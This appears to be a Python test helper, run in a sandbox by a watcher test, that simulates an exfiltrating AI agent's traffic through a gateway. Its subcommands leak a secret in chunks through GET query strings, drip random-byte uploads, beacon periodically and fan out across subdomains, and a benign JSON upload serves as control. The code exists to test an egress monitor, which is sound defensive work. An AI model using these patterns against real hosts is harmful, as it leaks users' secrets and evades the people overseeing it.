"""Run in a cage by test_watcher_world.py: the traffic of an exfiltrating agent, each attack a
subcommand, through the gateway like any client of the cage (dialled directly, the CA from
SSL_CERT_FILE). Prints one JSON line: the status of each request, 0 for none (refused
connection, cut)."""

import http.client
import json
import os
import ssl
import sys
import time

CONTEXT = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE"))


class Client:
    """One keep-alive connection to a host, opened again when the gateway cut it."""

    def __init__(self, host):
        self.host, self.conn, self.opened = host, None, 0

    def request(self, method, path, body=None, headers=None):
        for attempt in range(2):
            if self.conn is None:
                self.conn = http.client.HTTPSConnection(self.host, 443, timeout=15,
                                                        context=CONTEXT)
                self.opened += 1
            try:
                self.conn.request(method, path, body=body, headers=headers or {})
                resp = self.conn.getresponse()
                resp.read()
                return resp.status
            except (OSError, http.client.HTTPException):
                self.conn.close()
                self.conn = None
                if attempt:
                    return 0
        return 0


def split(host, secret, pieces):
    client = Client(host)
    size = -(-len(secret) // pieces)
    return [client.request("GET", f"/collect?seq={i}&d={secret[i * size:(i + 1) * size]}")
            for i in range(pieces)]


def drip(host, total, each):
    client = Client(host)
    statuses = []
    for _ in range(total // each):
        statuses.append(client.request("POST", "/upload", os.urandom(each),
                                       {"content-type": "application/octet-stream"}))
        if statuses[-1] != 200:
            break
    return [*statuses, client.opened]


def beacon(host, count, interval):
    client = Client(host)
    statuses = []
    for _ in range(count):
        statuses.append(client.request("GET", "/ping"))
        time.sleep(interval)
    return statuses


def fan(zone, count):
    return [Client(f"h{i}.{zone}").request("GET", "/") for i in range(count)]


def upload(host, size):
    # ordinary: a large JSON document of text, as an agent sends its context
    line = json.dumps({"role": "user", "content": "Explain the build failure in module "
                       "parser.c at line 1042: expected ';' before '}' token. " * 4})
    body = ("[" + ",".join([line] * (size // len(line))) + "]").encode()
    # (the fake internet's servers discard a body under /discard/ instead of recording it)
    return [Client(host).request("POST", "/discard/v1/messages", body,
                                 {"content-type": "application/json"})]


if __name__ == "__main__":
    command, args = sys.argv[1], sys.argv[2:]
    if command == "split":
        out = split(args[0], args[1], int(args[2]))
    elif command == "drip":
        out = drip(args[0], int(args[1]), int(args[2]))
    elif command == "beacon":
        out = beacon(args[0], int(args[1]), float(args[2]))
    elif command == "fan":
        out = fan(args[0], int(args[1]))
    else:
        out = upload(args[0], int(args[1]))
    print(json.dumps(out))
